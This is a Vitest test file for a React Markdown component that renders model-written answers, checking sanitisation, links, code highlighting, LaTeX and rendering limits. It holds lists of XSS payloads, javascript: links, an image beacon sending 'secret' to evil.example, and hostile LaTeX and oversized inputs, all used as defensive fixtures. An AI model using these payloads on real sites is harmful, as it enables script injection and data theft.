import { act, render, screen, waitFor } from '@testing-library/react'
import { userEvent } from '@testing-library/user-event'
import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test, vi } from 'vitest'
import type { ColourRequest } from './highlight/highlightWorkerClient.ts'
import { highlightCode, type CodeToken } from './highlight/highlightCode.ts'
import { findTextOffset } from './textOffset.ts'
import { parseBlock, type ParsedBlock, type ParseRequest } from './pipeline/parseBlock.ts'
import { Markdown, type MarkdownProps } from './Markdown.tsx'

/** jsdom has no workers: what theirs do is done here. */
class Here {
  static readonly started: Here[] = []
  /** Whether a worker never answers, as one that takes too long. */
  static hangs = false
  /** Whether a worker throws, as one whose stack overflows. */
  static fails = false
  isEnded = false
  onmessage: (event: { data: CodeToken[] | ParsedBlock | null }) => void = () => undefined
  onerror: () => void = () => undefined
  constructor() {
    Here.started.push(this)
  }
  postMessage(request: ColourRequest | ParseRequest): void {
    if (Here.hangs) return
    queueMicrotask(() => {
      try {
        if (Here.fails) throw new RangeError('Maximum call stack size exceeded')
        const data = 'code' in request ? highlightCode(request.code, request.language) : parseBlock(request)
        this.onmessage({ data: structuredClone(data) })
      } catch {
        this.onerror()
      }
    })
  }
  terminate(): void {
    this.isEnded = true
  }
}
vi.stubGlobal('Worker', Here)

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![beacon](https://evil.example/p.png?q=secret)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox)',
  '<javascript:alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)><style>@import "https://evil.example/a.css"</style></svg>',
  '<form action="https://evil.example"><input name=q></form>',
  '[x](https://good.example"onmouseover="alert(1))',
  '![a](https://e.example/a.png "onload=alert(1)")',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<style>body{display:none}</style>',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x"></object>',
  '[rel](/api/session)',
  '[hash](#x)',
  '[odd](//evil.example/x)',
  '<think><img src=x onerror=alert(1)></think>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '| <b onclick=x> | a |\n| - | - |\n| ![i](https://e.example/i.gif) | [j](javascript:1) |',
  '\u202e[txt](https://evil.example)',
]
const ALLOWED =
  'a blockquote br button code del details div em h3 h4 h5 h6 hr input ins kbd li ol p path pre section span strong sub summary sup svg table tbody td th thead tr u ul'.split(
    ' ',
  )

test('nothing that a model writes can run, load or lead astray', () => {
  const texts = fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'grapheme' })), {
    minLength: 1,
    maxLength: 6,
  })
  fc.assert(
    fc.property(texts, fc.constantFrom('', '\n', '\n\n', ' '), fc.boolean(), (parts, glue, live) => {
      const { container, unmount } = draw({ text: parts.join(glue), isStreaming: live })
      for (const element of container.querySelectorAll('.answer *')) {
        expect(ALLOWED).toContain(element.tagName.toLowerCase())
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^style$|^src|^srcdoc$|^action|^id$|^name$|xlink|^background$|^ping$/)
          expect(value).toMatch(name === 'href' ? /^(?:https?:\/\/[^/]|mailto:)/ : /^/)
        }
      }
      unmount()
    }),
    { numRuns: 60, examples: HOSTILE.map((text): [string[], string, boolean] => [[text], '', false]) },
  )
})

test('a link says where it leads when its words hide it', () => {
  draw({ text: '[the manual](https://docs.example/a) https://docs.example/b [docs.example](https://docs.example)' })
  const [hidden, shown, named] = screen.getAllByRole('link')
  expect(hidden?.textContent).toBe('the manual (docs.example)')
  expect(shown?.textContent).toBe('https://docs.example/b')
  expect(named?.textContent).toBe('docs.example')
  for (const link of [hidden, shown]) {
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(link?.getAttribute('target')).toBe('_blank')
  }
})

test('a link that dresses up as another host shows its own', () => {
  draw({ text: '[https://bank.example](https://evil.example)' })
  expect(screen.getByRole('link').textContent).toBe('https://bank.example (evil.example)')
})

test('an image within a link does not put a link into a link', () => {
  draw({ text: '[![plan](https://e.example/plan.png)](https://e.example/page)' })
  expect(screen.getAllByRole<HTMLAnchorElement>('link').map(({ href }) => href)).toEqual(['https://e.example/page'])
})

test('an image is a link with its description and host', () => {
  draw({ text: '![a lamp](https://pictures.example/lamp.png)' })
  expect(screen.getByRole('link').textContent).toBe('Image: a lamppictures.example')
  expect(document.querySelector('img')).toBeNull()
})

test('a citation is a button only where there is such a source', async () => {
  const chosen: number[] = []
  draw({
    text: 'One [1], two [2][3], `[1]` in code, [1](https://a.example).',
    citations: [1, 3],
    onCite: (n) => chosen.push(n),
  })
  const buttons = screen.getAllByRole('button')
  expect(buttons.map((button) => button.textContent)).toEqual(['1', '3'])
  await userEvent.click(screen.getByRole('button', { name: 'Source 3' }))
  expect(chosen).toEqual([3])
  expect(document.querySelector('.answer')?.textContent).toContain('two [2]')
})

test('code gets its colours when it is whole, and can be copied', async () => {
  const { rerender } = draw({ text: '```json\n{"a": 1', isStreaming: true, caret: <i /> })
  rerender(page({ text: '```json\n{"a": 1}\n```\n', isStreaming: false }))
  await waitFor(() => expect(document.querySelector('pre [data-scope="attr"]')?.textContent).toBe('"a"'))
  expect(document.querySelector('pre')?.textContent).toBe('{"a": 1}')
  expect(screen.getByRole('button', { name: 'Copy' })).toBeDefined()
})

test('highlighted code in a list item keeps its offsets', async () => {
  const text = '- x\n\n  ```json\n  {\n    "a": [\n      1]\n  }\n  ```\n'
  draw({ text })
  const number = await waitFor(() => {
    const found = document.querySelector('pre [data-scope="number"]')
    expect(found).not.toBeNull()
    return found?.firstChild as Node
  })
  expect(findTextOffset(number, 0)).toBe(text.indexOf('1'))
})

test.each(['', '<think>\n', '<details><details>\n'])(
  'a finished block is not drawn again while the text grows: %j',
  (fold) => {
    const text = `${fold}first\n\nsecond words that are open`
    const { rerender } = draw({ text, isStreaming: true })
    const first = document.querySelector('.answer p')
    rerender(page({ text: `${text} and grow\n\nthird one comes here`, isStreaming: true }))
    expect(document.querySelector('.answer p')).toBe(first)
    expect(document.querySelectorAll('.answer p')).toHaveLength(3)
  },
)

test('a reference that is defined at the end leads where it should', () => {
  draw({ text: 'See [the manual][m].\n\nMore.\n\n[m]: https://docs.example/\n' })
  expect(screen.getByRole('link').getAttribute('href')).toBe('https://docs.example/')
})

const marked = () => [...document.querySelectorAll('mark')].map((one) => one.firstChild?.textContent)
const rich =
  'One **two** three.\n\n> a\n> b\n\n- item \\* x\n\n| a | b |\n| - | - |\n| gap | below 0.35 mm |\n\n```js\nlet x = 1\n```\n\nlast &amp; **（注）**后文 [1]'

test.each([
  ['two', ['two']],
  ['One **two** th', ['One ', 'two', ' th']],
  ['b\n\n- item', ['b', 'item']],
  [' | below 0.35', ['below 0.35']],
  ['x = 1', ['x = 1']],
  ['注）**后', ['注）', '后']],
  ['```js\n', []],
  ['| - | - |\n', []],
])('words of the text have the marker wherever they are drawn: %s', (words, drawn) => {
  const from = rich.indexOf(words)
  draw({ text: rich, highlight: { seq: 41, from, to: from + words.length } })
  expect(marked()).toEqual(drawn)
  expect(document.querySelectorAll('mark sup')).toHaveLength(drawn.length > 0 ? 1 : 0)
})

test.each([
  ['\\(a_1 * b_1 = c_{2}\\)', false],
  ['\\[\\frac{a}{b} * x_1^* < y\\]', true],
  ['$E = m_0 * c^2 * d_0$', false],
  ['$x$', false],
])(
  'a formula is rendered, has its source as name, and the words around it are found: %s',
  async (formula, isDisplay) => {
    const text = `So ${formula} holds, *not* \`${formula.slice(0, 2)}\`.`
    draw({ text, highlight: { seq: 3, from: text.indexOf('holds'), to: text.indexOf('holds') + 5 } })
    expect((await screen.findByRole('math')).getAttribute('aria-label')).toBe(formula)
    expect(document.querySelectorAll('.katex-display')).toHaveLength(isDisplay ? 1 : 0)
    expect(document.querySelector('p')?.textContent).not.toContain(formula)
    expect(marked()).toEqual(['holds'])
    expect(document.querySelectorAll('p em')).toHaveLength(1)
    const after = document.querySelector('mark')?.firstChild as Text
    expect(findTextOffset(after, 2)).toBe(text.indexOf('holds') + 2)
    const symbol = document.querySelector('.katex')?.querySelector('.mord') as Element
    expect(findTextOffset(symbol.firstChild as Node, 0)).toBe(text.indexOf(formula))
  },
)

test('an empty line in a display formula is a line break', async () => {
  draw({ text: '$$\na\n\nb\n$$' })
  await screen.findByRole('math')
  expect(document.querySelectorAll('.katex-newline')).toHaveLength(1)
})

test('what is no valid LaTeX stays as its source, with a note', async () => {
  draw({ text: 'So $\\frac{a}_{$ and $x_1$.' })
  await screen.findByRole('math')
  const [broken] = document.querySelectorAll('[data-formula="source"]')
  expect(broken?.textContent).toBe('$\\frac{a}_{$')
  expect(broken?.getAttribute('title')).toContain('not valid LaTeX')
})

test('formulas load, link, name and style nothing but themselves', async () => {
  const hostile = [
    '\\href{javascript:alert(1)}{x_1}',
    '\\url{https://evil.example/x_1}',
    '\\includegraphics[width=1em]{https://evil.example/p_1.png}',
    '\\htmlId{root}{x_1}',
    '\\htmlStyle{background:url(https://evil.example)}{x_1}',
    '\\htmlData{at=0}{x_1}',
    '\\text{<img src=x onerror=alert(1)>}_1',
    '\\fcolorbox{red}{url(https://evil.example)}{x_1}',
    '\\color{#fff}{x_1}',
    '\\rule{9999em}{9999em}_1',
    '\\def\\a{\\a\\a}\\a_1',
    `${'{'.repeat(3_000)}x_1`,
    `${'\\frac{'.repeat(90)}x_1${'}{1}'.repeat(90)}`,
    `\\begin{matrix}${'&'.repeat(1_900)}\\end{matrix}_1`,
    `${'z'.repeat(4_100)}_1`,
  ]
  draw({ text: hostile.map((tex) => `So $${tex}$ it is.`).join('\n\n') + '\n\n$y_1$' })
  await waitFor(() => expect(document.querySelector<HTMLElement>('[aria-label="$y_1$"]')?.hidden).toBe(false))
  expect(document.querySelectorAll('[role="math"]:not([hidden])').length).toBeGreaterThan(3)
  const elements = [...document.querySelectorAll('[data-formula], [data-formula] *')]
  expect(elements.length).toBeLessThan(4_000)
  const attributes = elements.flatMap((element) => [...element.attributes])
  const tags = new Set(elements.map(({ tagName }) => tagName.toLowerCase()))
  expect([...tags].filter((tag) => !['path', 'span', 'svg'].includes(tag))).toEqual([])
  expect(attributes.map(({ name }) => name).filter((name) => !FORMULA_ATTRIBUTES.test(name))).toEqual([])
  const styles = attributes.filter(({ name }) => name === 'style').map(({ value }) => value)
  expect(styles.filter((style) => /url|position|var\(|9999/.test(style))).toEqual([])
})

const FORMULA_ATTRIBUTES =
  /^(class|style|dir|title|hidden|role|aria-label|aria-hidden|data-(at|after|formula)|tabindex|d|xmlns|width|height|viewBox|preserveAspectRatio)$/

const TOO_LARGE = 'This block is shown as plain text because it is too large or too complex.'
const FAILED = 'This block is shown as plain text because rendering it failed or took too long.'
/** Whether this is the text that is shown plain; a difference of 100 KB is of no use to anybody. */
const isPlain = (text: string) =>
  [...document.querySelectorAll('[data-at][dir="auto"]')]
    .map((piece) => piece.textContent)
    .join('')
    .trim() === text.trim()

test.each([
  ['100 KB of emphasis', '*_'.repeat(50_000)],
  ['20 KB of quotations in one another', '> '.repeat(10_000)],
])('%s are plain text with a note, and the blocks around stay as they are', async (_name, hostile) => {
  draw({ text: `**before**\n\n${hostile}\n\nafter [1](https://a.example)` })
  expect(screen.getByRole('note').textContent).toContain(TOO_LARGE)
  expect(isPlain(hostile.trim())).toBe(true)
  expect(document.querySelector('strong')?.textContent).toBe('before')
  await waitFor(() => expect(screen.getByRole('link').textContent).toContain('1'))
})

test('a block that is too large is rendered when somebody asks for it', async () => {
  draw({ text: `${'> '.repeat(70)}deep **bold** words` })
  expect(screen.getByRole('note').textContent).toContain(TOO_LARGE)
  expect(document.querySelector('blockquote')).toBeNull()
  await userEvent.click(screen.getByRole('button', { name: 'Render anyway' }))
  await waitFor(() => expect(document.querySelectorAll('blockquote')).toHaveLength(70))
  expect(document.querySelector('p strong')?.textContent).toBe('bold')
  expect(screen.queryByRole('note')).toBeNull()
})

test('a long list is rendered by the worker unasked once it is complete, with the marker and the anchors of its words', async () => {
  const item = '- **Item** one has `code` and [a link](https://a.example/x) to see\n'
  const text = item.repeat(400) + '- the last words\n'
  const from = text.indexOf('the last')
  const { rerender } = draw({ text, isStreaming: true, caret: <i>end</i> })
  expect(screen.getByRole('note').textContent).toBe('This block is shown as plain text until it is complete.')
  expect(isPlain(`${text}end`)).toBe(true)
  rerender(page({ text, highlight: { seq: 7, from, to: from + 8 } }))
  await vi.waitFor(() => expect(document.querySelectorAll('li')).toHaveLength(401))
  expect(marked()).toEqual(['the last'])
  const words = document.querySelector('mark')?.firstChild as Text
  expect(findTextOffset(words, 0)).toBe(from)
})

test('a worker that takes too long is ended, and the block stays as it is', async () => {
  vi.useFakeTimers()
  Here.hangs = true
  try {
    draw({ text: `${'*b* '.repeat(4_000)}end` })
    await act(async () => screen.getByRole('button', { name: 'Render anyway' }).click())
    expect(screen.getByRole('note').textContent).toBe('Rendering…')
    await act(() => vi.advanceTimersByTimeAsync(5_000))
    expect(screen.getByRole('note').textContent).toBe(FAILED)
    expect(isPlain(`${'*b* '.repeat(4_000)}end`)).toBe(true)
    expect(Here.started.at(-1)?.isEnded).toBe(true)
  } finally {
    Here.hangs = false
    vi.useRealTimers()
  }
})

test('a block that the worker cannot follow stays as it is, and the next one is parsed', async () => {
  const text = `${'> '.repeat(70)}deep`
  Here.fails = true
  draw({ text })
  await userEvent.click(screen.getByRole('button', { name: 'Render anyway' }))
  await waitFor(() => expect(screen.getByRole('note').textContent).toBe(FAILED))
  expect(isPlain(text)).toBe(true)
  Here.fails = false
  draw({ text: `${text}er` })
  await userEvent.click(screen.getByRole('button', { name: 'Render anyway' }))
  await waitFor(() => expect(document.querySelectorAll('blockquote')).toHaveLength(70))
})

test('a block that fails while it is drawn is plain text, and the others are drawn', () => {
  const quiet = vi.spyOn(console, 'error').mockImplementation(() => undefined)
  const citations = Object.assign([1], {
    includes: () => {
      throw new Error('it fails')
    },
  })
  draw({ text: 'first *words*\n\nsecond [1] *words*\n\nthird *words* stand here', citations })
  expect(isPlain('second [1] *words*')).toBe(true)
  expect(screen.getByRole('note').textContent).toBe(FAILED)
  expect(document.querySelectorAll('em')).toHaveLength(2)
  quiet.mockRestore()
})

test('a long text is drawn in steps, in order and to its end', async () => {
  const text = Array.from({ length: 600 }, (_, index) => `paragraph *${index}*`).join('\n\n')
  const first = renderToStaticMarkup(page({ text })).match(/<p[ >]/g)?.length ?? 0
  expect(first).toBeGreaterThan(10)
  expect(first).toBeLessThan(500)
  draw({ text })
  await vi.waitFor(() => expect(document.querySelectorAll('.answer p')).toHaveLength(600))
  const drawn = [...document.querySelectorAll('.answer em')].map((one) => Number(one.textContent))
  expect(drawn).toEqual(Array.from({ length: 600 }, (_, index) => index))
})

test('a block that grows is drawn less often the more it costs, and at its end it is complete', () => {
  vi.useFakeTimers()
  try {
    const begun = '- **Item**: its words and `code` to see\n'.repeat(100)
    const { rerender } = draw({ text: begun, isStreaming: true })
    const drawn = new Set<number>()
    let text = begun
    for (let frame = 0; frame < 80; frame++) {
      text += `word${frame} `
      rerender(page({ text, isStreaming: true }))
      act(() => void vi.advanceTimersByTime(16))
      drawn.add(document.querySelector('.answer')?.textContent.length ?? 0)
    }
    // 1.3 s: each drawing costs some 40 ms by the estimate, and rests four times that.
    expect(drawn.size).toBeGreaterThan(2)
    expect(drawn.size).toBeLessThan(20)
    rerender(page({ text, isStreaming: false }))
    expect(document.querySelector('.answer')?.textContent).toContain('word79')
  } finally {
    vi.useRealTimers()
  }
})

const page = (props: Partial<MarkdownProps>) => (
  <div className="answer">
    <Markdown text="" isStreaming={false} {...props} />
  </div>
)
const draw = (props: Partial<MarkdownProps>) => render(page(props))
